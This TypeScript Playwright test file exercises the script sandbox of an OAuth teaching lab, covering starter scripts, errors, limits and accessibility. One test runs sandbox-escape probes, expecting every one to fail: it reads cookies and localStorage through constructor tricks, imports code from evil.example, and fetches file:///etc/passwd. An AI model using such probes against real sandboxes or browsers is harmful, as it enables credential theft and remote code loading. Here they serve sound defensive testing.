import { createServer } from 'node:http';
import AxeBuilder from '@axe-core/playwright';
import type { Locator, Page } from '@playwright/test';
import { Stage } from './stage.ts';
import { expect, test } from './watched.ts';

/** The tab *Your client*, in the words of somebody who uses it. */
class Client {
  readonly page: Page;
  readonly editor: Locator;
  readonly console: Locator;
  readonly run: Locator;
  readonly stop: Locator;

  constructor(page: Page) {
    this.page = page;
    this.editor = page.getByRole('textbox', { name: 'Your script' });
    this.console = page.getByRole('log', { name: 'Console' });
    this.run = page.getByRole('button', { name: 'Run', exact: true });
    this.stop = page.getByRole('button', { name: 'Stop', exact: true });
  }

  async open(lab = 'code-flow'): Promise<this> {
    await new Stage(this.page).open(lab);
    const tab = this.page.getByRole('tab', { name: 'Your client' });
    // The first touch fetches the engine, and what comes with it moves the page.
    await tab.hover();
    await expect(this.page.locator('[data-ready="true"]')).toHaveCount(1);
    await tab.click();
    await expect(this.editor).toBeVisible();
    return this;
  }

  /** Replaces the script. */
  async write(script: string): Promise<void> {
    await this.editor.click();
    await this.editor.press('ControlOrMeta+a');
    await this.page.keyboard.insertText(script);
  }

  /** Runs the script until it ends. */
  async toItsEnd(script?: string): Promise<string> {
    if (script !== undefined) await this.write(script);
    await this.run.click();
    await this.ended();
    return this.console.innerText();
  }

  async ended(): Promise<void> {
    await expect(this.console.getByText(/^(Done|Ended|Ended by an error) after/)).toBeVisible({ timeout: 30_000 });
  }
}

/** Waits until the list shows at least so many messages of the reader's own. */
async function hasOwn(page: Page, least: number): Promise<void> {
  await new Stage(page).asAList();
  const own = page.locator('li[data-message]').filter({ hasText: 'You' });
  await expect.poll(() => own.count()).toBeGreaterThanOrEqual(least);
}

test('no byte of editor, engine or libraries comes before the tab opens, and no engine before the first run @path', async ({
  page,
  watched,
}) => {
  const names = (): string[] => watched.asked.filter((url) => /StageClient|worker-[^c]|emscripten|\.wasm/.test(url));
  await new Stage(page).open('code-flow');
  await page.waitForLoadState('networkidle');
  expect(names()).toEqual([]);
  await page.getByRole('tab', { name: 'Your client' }).click();
  const client = new Client(page);
  await expect(client.editor).toBeVisible();
  expect(names().map((url) => /worker-|wasm|StageClient/.exec(url)?.[0])).toEqual(['StageClient']);
  expect(await client.toItsEnd('console.log(1 + 1);')).toMatch(/^2\n/);
  expect(names().some((url) => url.endsWith('.wasm'))).toBe(true);
});

test.describe('the scripts to start from', () => {
  for (const [title, says, least] of [
    ['Log in with a code (oauth4webapi)', "sub: 'alice'", 7],
    ['Get a token and call an API (fetch)', 'A token for 300 seconds', 3],
    ['Validate tokens: find the bug (jose)', '3 judged wrongly.', 1],
    ['Bind a token to a key (DPoP by hand)', 'DPoP token, bound to the key', 6],
  ] as const) {
    test(`${title} runs to its end, and what it sends is in the list as yours`, async ({ page }) => {
      const client = await new Client(page).open();
      if (!title.startsWith('Log in')) await page.getByLabel('Start from').selectOption(title);
      const text = await client.toItsEnd();
      expect(text).toContain(says);
      expect(text).toContain('Done after');
      await hasOwn(page, least);
    });
  }

  test('the bug is found, mended by an edit, and every token is rightly judged', async ({ page }) => {
    const client = await new Client(page).open();
    await page.getByLabel('Start from').selectOption({ label: 'Validate tokens: find the bug (jose)' });
    expect(await client.toItsEnd()).toContain('Wrong: a token for another API: accepted. It must be refused.');
    await client.editor.getByText('issuer: ISSUER,').click();
    await page.keyboard.press('End');
    await page.keyboard.type("\naudience: API, typ: 'at+jwt', requiredClaims: ['exp'],");
    const text = await client.toItsEnd();
    expect(text).toContain('Every token is rightly judged.');
    expect(text).not.toContain('Wrong:');
  });

  test('another script takes the place of yours, and yours comes back; both survive a reload', async ({ page }) => {
    const client = await new Client(page).open();
    await client.write('console.log("mine");');
    await page.getByLabel('Start from').selectOption('plain-fetch');
    await expect(client.editor).toContainText('A machine gets a token');
    await page.getByLabel('Start from').selectOption('dpop-by-hand');
    await page.reload();
    await page.getByRole('tab', { name: 'Your client' }).click();
    await expect(client.editor).toContainText('DPoP by hand');
    await page.getByRole('button', { name: 'Back to your script' }).click();
    await expect(client.editor).toHaveText(/console\.log\("mine"\);/);
    await page.reload();
    await page.getByRole('tab', { name: 'Your client' }).click();
    await expect(client.editor).toHaveText(/console\.log\("mine"\);/);
    await new Client(page).open('validate');
    await expect(client.editor).toContainText('Authorization code with PKCE');
  });
});

test('the address of the desktop app is read from the redirect, and nobody asks it for anything', async ({ page }) => {
  const asked: string[] = [];
  const desktop = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  });
  desktop.listen(8400, '127.0.0.1');
  try {
    const client = await new Client(page).open();
    expect(await client.toItsEnd()).toContain('The browser came back to http://127.0.0.1:8400/callback?code=');
    await page.waitForLoadState('networkidle');
    expect(asked).toEqual([]);
  } finally {
    desktop.close();
  }
});

test('a message of the script is judged on the stage, and its line in the console leads there', async ({ page }) => {
  const client = await new Client(page).open();
  await client.toItsEnd(`await fetch('https://api.lab.test/invoices', { headers: { Authorization: 'Bearer nonsense', Origin: 'https://evil.test' } });
await fetch('https://as.lab.test/jwks');`);
  await expect(client.console).toContainText(/401, refused: Gateway/);
  await client.console.getByRole('button', { name: 'Message 1' }).click();
  await expect(page.getByRole('region', { name: 'Inspector' })).toContainText('refused');
});

test('an error says its line, which is marked, and a press leads there', async ({ page }) => {
  const client = await new Client(page).open();
  const text = await client.toItsEnd(
    `import * as oauth from 'oauth4webapi';\n\nconst issuer = new URL('https://evil.lab.test');\nawait oauth.discoveryRequest(issuer);\nawait oauth.processDiscoveryResponse(issuer, await fetch('https://as.lab.test/.well-known/openid-configuration'));`,
  );
  expect(text).toMatch(/OperationProcessingError|TypeError/);
  await expect(page.locator('.cm-lint-marker-error')).toHaveCount(1);
  await client.console.getByRole('button', { name: /^Go to line [45]$/ }).click();
  await expect(client.editor).toBeFocused();
  await expect(page.locator('.cm-activeLine')).toContainText('await oauth.');
  expect(await client.toItsEnd('const a = 1;\nconst b = ;\n')).toMatch(/SyntaxError[\s\S]*Go to line 2/);
  expect(await client.toItsEnd(`async function main() {\n  await null;\n  throw new Error('nobody heard');\n}\nmain();`)).toMatch(
    /nobody heard[\s\S]*Go to line 3/,
  );
  await client.toItsEnd('console.log("fine");');
  await expect(page.locator('.cm-lint-marker-error')).toHaveCount(0);
});

test('a script reaches nothing but the lab', async ({ page, watched }) => {
  const client = await new Client(page).open();
  await page.evaluate(() => {
    localStorage.setItem('secret', 'kept');
    document.cookie = 'secret=kept';
  });
  const before = watched.asked.length;
  const text = await client.toItsEnd(`
const names = ['window', 'self', 'document', 'parent', 'top', 'opener', 'location', 'history', 'navigator', 'localStorage', 'sessionStorage',
  'indexedDB', 'caches', 'cookieStore', 'WebSocket', 'EventSource', 'XMLHttpRequest', 'WebTransport', 'RTCPeerConnection', 'importScripts',
  'Worker', 'SharedWorker', 'BroadcastChannel', 'open', 'postMessage', 'alert', 'Image', 'FontFace', 'WebAssembly', 'process', 'require'];
const unbound = Function('return this')();
console.log('found:', names.filter((name) => name in globalThis || name in unbound).join());
const tried = {};
for (const [name, attempt] of Object.entries({
  code: () => console.log.constructor('return document.cookie')(),
  prototype: () => fetch.constructor.constructor('return localStorage')(),
  module: () => import('https://evil.example/x.js'),
  data: () => import('data:text/javascript,1'),
  blob: () => import('blob:null/1'),
  other: () => fetch('https://example.com/?q=' + Date.now()),
  site: () => fetch('${new URL(page.url()).origin}/favicon.svg'),
  file: () => fetch('file:///etc/passwd'),
  inline: () => fetch('data:text/plain,x'),
  local: () => fetch('http://127.0.0.1:1/'),
})) try { await attempt(); tried[name] = 'reached'; } catch (error) { tried[name] = error.name; }
console.log('tried:', JSON.stringify(tried));`);
  expect(text).toContain('found: \n');
  expect(text.replaceAll('\n', '')).toContain(
    'tried: {"code":"ReferenceError","prototype":"ReferenceError","module":"TypeError","data":"TypeError","blob":"TypeError",' +
      '"other":"TypeError","site":"TypeError","file":"TypeError","inline":"TypeError","local":"TypeError"}',
  );
  const asked = watched.asked.slice(before).filter((url) => !/_astro\//.test(url));
  expect(asked.filter((url) => !url.includes('.lab.test'))).toEqual([]);
  expect(page.url()).toContain('labs/code-flow/');
});

test.describe('what has no end is ended, and the page answers all the while', () => {
  for (const [what, script, sentence] of [
    ['a loop', 'while (true) {}', 'computed for 5 seconds without a pause'],
    ['an allocation', 'const all = [];\nfor (;;) all.push(new Array(1000).fill("x"));', 'used up the 64 MB of memory'],
    ['bytes', 'const all = [];\nfor (;;) all.push(new Uint8Array(1e6).fill(1));', 'used up the 64 MB of memory'],
    ['a recursion', 'JSON.parse("[".repeat(1e6));', 'too much recursion'],
    ['a flood of lines', 'for (;;) console.log("x".repeat(1000));', 'computed for 5 seconds without a pause'],
    ['a flood of requests', "for (;;) fetch('https://as.lab.test/jwks');", 'sent 150 requests'],
  ] as const) {
    test(what, async ({ page }) => {
      const client = await new Client(page).open();
      await client.write(script);
      await client.run.click();
      const stage = new Stage(page);
      if (what.startsWith('a loop') || what.startsWith('a flood of lines')) {
        await stage.sendNext();
        await stage.goBack();
      }
      await client.ended();
      await expect(client.console).toContainText(sentence);
      expect(await client.console.locator('p').count()).toBeLessThan(700);
      expect(await client.toItsEnd('console.log("again");')).toContain('again');
    });
  }

  test('Stop ends a loop at once', async ({ page }) => {
    const client = await new Client(page).open();
    await client.write('console.log("in");\nfor (;;) {}');
    await client.run.click();
    await expect(client.console).toContainText('in');
    await client.stop.click();
    await client.ended();
    await expect(client.console).toContainText('Stopped by you.');
    await expect(client.stop).toBeFocused();
  });
});

test('by keyboard alone: the tab, the editor, a run, out of the editor, the console and its link', async ({ page }) => {
  await new Stage(page).open('code-flow');
  await page.getByRole('tab', { name: 'Terminal' }).focus();
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('Enter');
  const client = new Client(page);
  await expect(client.editor).toBeVisible();
  await client.editor.focus();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.insertText("await fetch('https://as.lab.test/jwks');\nsb();");
  await page.keyboard.press('Tab');
  await expect(client.editor).toBeFocused();
  await page.keyboard.press('ControlOrMeta+Enter');
  await client.ended();
  await expect(client.editor).toBeFocused();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Tab');
  await expect(client.console).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(client.console.getByRole('button', { name: 'Message 1' })).toBeFocused();
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await expect(client.editor).toBeFocused();
});

test('axe finds nothing before a run, after an error, and in the dark', async ({ page }) => {
  const found = async (): Promise<string[]> =>
    (await new AxeBuilder({ page }).include('.drawer').analyze()).violations.flatMap(({ id, nodes }) =>
      nodes.map((node) => `${id}: ${node.html}`),
    );
  await page.emulateMedia({ reducedMotion: 'reduce' });
  const client = await new Client(page).open();
  expect(await found()).toEqual([]);
  await client.toItsEnd(`console.warn('w'); console.error('e'); await fetch('https://api.lab.test/me'); /* a */ const n = 1 + null.x;`);
  await page.getByText('What a script can do').click();
  expect(await found()).toEqual([]);
  await page.emulateMedia({ colorScheme: 'dark', reducedMotion: 'reduce' });
  expect(await found()).toEqual([]);
});

test('on a narrow page nothing is wider than it, and targets are large enough', async ({ page }) => {
  await page.setViewportSize({ width: 320, height: 640 });
  const client = await new Client(page).open();
  await client.toItsEnd(`console.log('x'.repeat(300)); await fetch('https://as.lab.test/jwks'); null.x;`);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  for (const button of await page.locator('.client button, .client select').all())
    expect((await button.boundingBox())?.height ?? 44).toBeGreaterThanOrEqual(44);
});
